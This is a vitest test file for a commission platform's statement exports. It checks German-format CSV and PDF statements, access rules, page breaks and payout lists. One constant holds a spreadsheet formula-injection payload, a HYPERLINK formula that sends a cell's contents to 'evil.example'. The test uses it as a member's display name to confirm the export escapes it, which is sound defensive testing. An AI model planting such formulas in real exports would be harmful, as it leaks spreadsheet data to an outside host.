import { randomBytes } from 'node:crypto'
import { inflateSync } from 'node:zlib'
import { periodOf, previousPeriod } from '@vernetzt/shared/commissions'
import type { Order, Statement } from '@vernetzt/shared/schemas/commerce'
import type { PeriodList } from '@vernetzt/shared/schemas/periods'
import { Types } from 'mongoose'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Client, makeMember, paymentEventBody, startTestServer, type TestServer, adminClient } from '../../../test/harness.ts'
import { append } from '../../db/streams.ts'
import { payeesStream } from './ledger.ts'
import { SIGNATURE_HEADER, signWebhook } from './payments.ts'
import { isoDay, listPeriods, statementPdf } from './statements.ts'

let server: TestServer
let admin: Client
let product: { id: string }
let top: Awaited<ReturnType<typeof makeMember>>
let mid: Awaited<ReturnType<typeof makeMember>>
let low: Awaited<ReturnType<typeof makeMember>>
const placed: Order[] = []
const current = periodOf(new Date())
const last = previousPeriod(current)
// Two days before this month began (in Berlin): safely inside last month.
const paidAt = new Date(new Date(`${current}-01T00:00:00Z`).getTime() - 2 * 86_400_000)
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'

async function webhook(type: string, reference: string, occurredAt: Date) {
  const body = await paymentEventBody(server, { type, reference, occurredAt })
  const res = await fetch(`${server.url}/api/v1/payments/webhook`, {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/json', [SIGNATURE_HEADER]: signWebhook(server.app.ctx.config.paymentWebhookSecret, body) },
  })
  expect(res.status).toBe(200)
}

async function paidOrder(client: Client, quantity: number, refund = false): Promise<Order> {
  const order = (await client.post('/api/v1/orders', { items: [{ productId: product.id, quantity }], idempotencyKey: `st-${randomBytes(6).toString('hex')}` }))
    .body as Order
  await webhook('payment.paid', order.payment.reference, paidAt)
  if (refund) await webhook('payment.refunded', order.payment.reference, new Date(paidAt.getTime() + 3_600_000))
  placed.push(order)
  return order
}

/** The file as a browser downloads it: raw bytes (fetch's text() would swallow the byte order mark). */
async function download(client: Client | null, path: string) {
  const res = await fetch(`${server.url}${path}`, { headers: client?.cookie ? { cookie: client.cookie } : {} })
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) }
}

/** A small RFC 4180 reader for ";"-separated text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++)
      else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ';') (row.push(cell), (cell = ''))
    else if (ch === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++)
    else cell += ch
  }
  return rows
}

function csvOf(bytes: Buffer): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // UTF-8 BOM: Excel reads umlauts right
  const text = bytes.subarray(3).toString('utf8')
  expect(text.endsWith('\r\n')).toBe(true)
  return parseCsv(text)
}

const cents = (decimal: string) => Math.round(Number(decimal.replace(',', '.')) * 100)

/** The visible text of a PDF: each content stream inflated, each text operator's string decoded (WinAnsi). */
function pdfText(pdf: Buffer): string[] {
  const lines: string[] = []
  const raw = pdf.toString('latin1')
  const winAnsi: Record<number, string> = { 0x80: '€', 0x84: '„', 0x93: '“', 0x96: '–', 0x97: '—' }
  for (const m of raw.matchAll(/\/FlateDecode[^]*?stream\r?\n/g)) {
    const start = m.index + m[0].length
    const end = raw.indexOf('endstream', start)
    let content: string
    try {
      content = inflateSync(pdf.subarray(start, end)).toString('latin1')
    } catch {
      continue
    }
    for (const tj of content.matchAll(/\[(.*?)\] TJ/g)) {
      const hex = [...tj[1]!.matchAll(/<([0-9a-f]*)>/g)].map((h) => h[1]).join('')
      let text = ''
      for (let i = 0; i < hex.length; i += 2) {
        const code = parseInt(hex.slice(i, i + 2), 16)
        text += winAnsi[code] ?? String.fromCharCode(code)
      }
      lines.push(text)
    }
  }
  return lines
}

beforeAll(async () => {
  server = await startTestServer()
  admin = await adminClient(server, { email: 'stmt-admin@example.org', password: 'statement admin password', handle: 'stmtadmin' })
  expect((await admin.post('/api/v1/admin/commission-plan', { ratesBp: [1000, 500, 300, 200, 100], maxDepth: 5 })).status).toBe(201)
  await server.app.ctx.models.Plan.updateOne({ _id: 1 }, { $set: { activeFrom: new Date('2020-01-01T00:00:00Z') } })
  product = (await admin.post('/api/v1/admin/products', { name: 'Aloe Vera Gel', priceCents: 11_900, vatRateBp: 1900, commissionableCents: 10_000 })).body

  top = await makeMember(server, { handle: 'st-top', displayName: 'Änne Böhm-Groß' })
  mid = await makeMember(server, { handle: 'st-mid', sponsor: 'st-top', displayName: INJECTION })
  low = await makeMember(server, { handle: 'st-low', sponsor: 'st-mid', displayName: 'Lutz Klein' })
  const customer = await makeMember(server, { handle: 'st-kunde', role: 'customer', sponsor: 'st-mid' })
  // All paid last month: low buys 100 € (base), then 200 € that is refunded within the window,
  // and mid's customer buys 100 €. At 10/5/3 %: low 10 + 20 − 20, mid 5 + 10 − 10 + 10, top 3 + 6 − 6 + 5.
  await paidOrder(low.client, 1)
  await paidOrder(low.client, 2, true)
  await paidOrder(customer.client, 1)
})
afterAll(async () => {
  await server.close()
})

describe('statement as CSV', () => {
  it('lists every entry in German Excel format, with the sums per level and in all', async () => {
    const res = await download(top.client, `/api/v1/statements/${last}.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="provisionsabrechnung-${last}-st-top.csv"`)
    expect(res.headers.get('cache-control')).toBe('private, no-store')
    const rows = csvOf(res.bytes)
    expect(rows.slice(0, 4)).toEqual([
      ['Provisionsabrechnung', 'Vernetzt'],
      ['Partner', 'Änne Böhm-Groß (@st-top)'],
      ['Zeitraum', last],
      ['Status', 'vorläufig'],
    ])
    const header = rows.findIndex((r) => r[0] === 'Datum')
    expect(rows[header]).toEqual(['Datum', 'Bestellnummer', 'Ebene', 'Art', 'Basis (EUR)', 'Satz (%)', 'Betrag (EUR)'])
    const entries = rows.slice(header + 1, rows.indexOf(rows.find((r, i) => i > header && r.length === 1 && r[0] === '')!))
    const [a, b, c] = placed
    const today = isoDay(new Date())
    // Written today (the date of the entry), for orders paid last month.
    expect(entries).toEqual([
      [today, a!.number, '3', 'Gutschrift', '100,00', '3,00', '3,00'],
      [today, b!.number, '3', 'Gutschrift', '200,00', '3,00', '6,00'],
      [today, b!.number, '3', 'Storno', '200,00', '3,00', '-6,00'],
      [today, c!.number, '2', 'Gutschrift', '100,00', '5,00', '5,00'],
    ])
    const summary = rows.slice(rows.indexOf(entries.at(-1)!) + 2)
    expect(summary).toEqual([
      ['Summe Ebene 2', '1 Bestellung', '2', '', '100,00', '', '5,00'],
      ['Summe Ebene 3', '2 Bestellungen', '3', '', '100,00', '', '3,00'],
      ['Gutschriften', '', '', '', '', '', '14,00'],
      ['Stornos', '', '', '', '', '', '-6,00'],
      ['Gesamt', '', '', '', '', '', '8,00'],
    ])
    // The entries add up to the total, cent for cent.
    expect(entries.reduce((s, r) => s + cents(r[6]!), 0)).toBe(800)
    // The same numbers as the JSON statement.
    const json = (await top.client.get(`/api/v1/statements/${last}`)).body as Statement
    expect(json.totalCents).toBe(800)
    expect(json.entries.map((e) => e.amountCents)).toEqual(entries.map((r) => cents(r[6]!)))
  })

  it('keeps text a member typed from running as a spreadsheet formula, and negative amounts numbers', async () => {
    const rows = csvOf((await download(mid.client, `/api/v1/statements/${last}.csv`)).bytes)
    expect(rows[1]).toEqual(['Partner', `'${INJECTION} (@st-mid)`])
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@]/)
    expect(rows.find((r) => r[3] === 'Storno')?.[6]).toBe('-10,00')
    expect(rows.at(-1)).toEqual(['Gesamt', '', '', '', '', '', '15,00'])
  })

  it('is for its partner and administrators only', async () => {
    const stranger = await makeMember(server, { handle: 'st-fremd' })
    expect((await download(stranger.client, `/api/v1/statements/${last}.csv?member=${top.me.id}`)).status).toBe(403)
    expect((await download(stranger.client, `/api/v1/statements/${last}.pdf?member=${top.me.id}`)).status).toBe(403)
    expect((await download(null, `/api/v1/statements/${last}.csv`)).status).toBe(401)
    expect((await download(top.client, '/api/v1/statements/2026-13.csv')).status).toBe(400)
    const asAdmin = await download(admin, `/api/v1/statements/${last}.csv?member=${top.me.id}`)
    expect(asAdmin.status).toBe(200)
    expect(csvOf(asAdmin.bytes).at(-1)).toEqual(['Gesamt', '', '', '', '', '', '8,00'])
    // A stranger's own statement is empty, not someone else's.
    const own = csvOf((await download(stranger.client, `/api/v1/statements/${last}.csv`)).bytes)
    expect(own[1]).toEqual(['Partner', 'Member st-fremd (@st-fremd)'])
    expect(own.at(-1)).toEqual(['Gesamt', '', '', '', '', '', '0,00'])
  })
})

describe('statement as PDF', () => {
  it('is an A4 PDF with company, partner, period, status, the entries and the totals', async () => {
    const res = await download(top.client, `/api/v1/statements/${last}.pdf`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/pdf')
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="provisionsabrechnung-${last}-st-top.pdf"`)
    expect(res.bytes.subarray(0, 5).toString()).toBe('%PDF-')
    expect(res.bytes.toString('latin1')).toContain('/MediaBox [0 0 595.28 841.89]')
    const text = pdfText(res.bytes)
    expect(text).toContain('Vernetzt')
    expect(text).toContain('Änne Böhm-Groß (@st-top)')
    expect(text.some((t) => t.startsWith(`Provisionsabrechnung `) && t.endsWith(last.slice(0, 4)))).toBe(true)
    expect(text.find((t) => t.startsWith('vorläufig'))).toBeDefined()
    for (const order of placed) expect(text).toContain(order.number)
    expect(text).toContain('-6,00 €')
    const total = text.indexOf('Gesamt')
    expect(text[total + 1]).toBe('8,00 €')
    expect(text).toContain('Seite 1 von 1')
  })

  it('breaks a long statement over pages, repeating the table header and numbering every page', async () => {
    const entries = Array.from({ length: 100 }, (_, i) => ({
      id: new Types.ObjectId().toString(),
      orderId: new Types.ObjectId().toString(),
      orderNumber: `B-2026-${String(i + 1).padStart(6, '0')}`,
      level: (i % 5) + 1,
      kind: 'credit' as const,
      rateBp: 1000,
      amountCents: 1234,
      baseCents: 12_340,
      planVersion: 1,
      period: '2026-03',
      createdAt: '2026-03-10T10:00:00.000Z',
    }))
    const s: Statement = {
      period: '2026-03',
      closed: true,
      member: { id: top.me.id, handle: 'st-top', displayName: 'Zoë 🚀 Ünal', role: 'partner', avatarUrl: null },
      totalCents: 100 * 1234,
      creditsCents: 100 * 1234,
      reversalsCents: 0,
      perLevel: [1, 2, 3, 4, 5].map((level) => ({ level, amountCents: 20 * 1234, salesCents: 20 * 12_340, orders: 20 })),
      entries,
    }
    const pdf = await statementPdf(s, { company: 'Beispiel GmbH' })
    const pages = pdf.toString('latin1').match(/\/Type \/Page\b/g)?.length ?? 0
    expect(pages).toBe(3) // 43 rows below the head of page 1, 49 on page 2, the rest and the sums on page 3
    const text = pdfText(pdf)
    expect(text.filter((t) => t === 'Datum')).toHaveLength(pages) // the table head on every page it runs over
    for (let p = 1; p <= pages; p++) expect(text).toContain(`Seite ${p} von ${pages}`)
    expect(text.filter((t) => /^B-2026-\d{6}$/.test(t))).toHaveLength(100)
    // Characters Helvetica cannot show become "?", the rest (umlauts) stay.
    expect(text).toContain('Zoë ? Ünal (@st-top)')
    expect(text.find((t) => t.startsWith('abgeschlossen'))).toBeDefined()
    expect(text[text.indexOf('Gesamt') + 1]).toBe('1.234,00 €')
  })
})

describe('payouts of a period', () => {
  it('exports only closed periods, one row per partner with the sums, each partner once', async () => {
    const early = await download(admin, `/api/v1/admin/periods/${last}/payouts.csv`)
    expect(early.status).toBe(409)
    expect(JSON.parse(early.bytes.toString()).error.code).toBe('PERIOD_OPEN')
    expect((await download(top.client, `/api/v1/admin/periods/${last}/payouts.csv`)).status).toBe(403)

    expect((await admin.post(`/api/v1/admin/periods/${last}/close`)).status).toBe(200)
    // A crash between listing a payee and marking them listed leaves them twice in the stream.
    await append(server.app.ctx, [payeesStream(last)], new Types.ObjectId(top.me.id))

    const res = await download(admin, `/api/v1/admin/periods/${last}/payouts.csv`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="auszahlungen-${last}.csv"`)
    const rows = csvOf(res.bytes)
    expect(rows).toEqual([
      ['Partner-ID', 'Handle', 'Name', 'E-Mail', 'Gutschriften (EUR)', 'Stornos (EUR)', 'Auszahlung (EUR)', 'Buchungen'],
      [low.me.id, 'st-low', 'Lutz Klein', 'st-low@example.org', '30,00', '-20,00', '10,00', '3'],
      [mid.me.id, 'st-mid', `'${INJECTION}`, 'st-mid@example.org', '25,00', '-10,00', '15,00', '4'],
      [top.me.id, 'st-top', 'Änne Böhm-Groß', 'st-top@example.org', '14,00', '-6,00', '8,00', '4'],
    ])
    // The closed statement says so.
    expect(csvOf((await download(top.client, `/api/v1/statements/${last}.csv`)).bytes)[3]).toEqual(['Status', 'abgeschlossen'])
  })

  it('lists the last 13 months with status and totals, and keeps the totals of a closed month', async () => {
    expect((await top.client.get('/api/v1/admin/periods')).status).toBe(403)
    const list = (await admin.get('/api/v1/admin/periods')).body as PeriodList
    expect(list.items).toHaveLength(13)
    expect(list.items[0]).toMatchObject({ period: current, status: 'open', closedAt: null, closable: false })
    const closed = list.items[1]!
    expect(closed).toMatchObject({
      period: last,
      status: 'closed',
      closable: false,
      totals: { creditsCents: 6900, reversalsCents: -3600, totalCents: 3300, entries: 11 },
    })
    expect(Date.parse(closed.closedAt!)).toBeGreaterThan(Date.now() - 60_000)
    expect(list.items[2]).toMatchObject({ period: previousPeriod(last), status: 'open', closable: true, totals: { totalCents: 0, payees: 0 } })

    // A minute after the close the totals are computed once and read from the cache from then on.
    const later = new Date(Date.now() + 120_000)
    const actor = { id: 'x', handle: 'stmtadmin', role: 'admin' as const }
    await listPeriods(server.app.ctx, actor, later)
    const cache = server.app.ctx.models.Period.db.collection('period_totals')
    // Counted exactly here: top's second listing (the crash in the test above) counts once.
    expect(await cache.findOne({ _id: last as never })).toMatchObject({ creditsCents: 6900, reversalsCents: -3600, totalCents: 3300, payees: 3, entries: 11 })
    await cache.updateOne({ _id: last as never }, { $set: { totalCents: 1 } })
    expect((await listPeriods(server.app.ctx, actor, later)).items[1]!.totals.totalCents).toBe(1)
  })
})
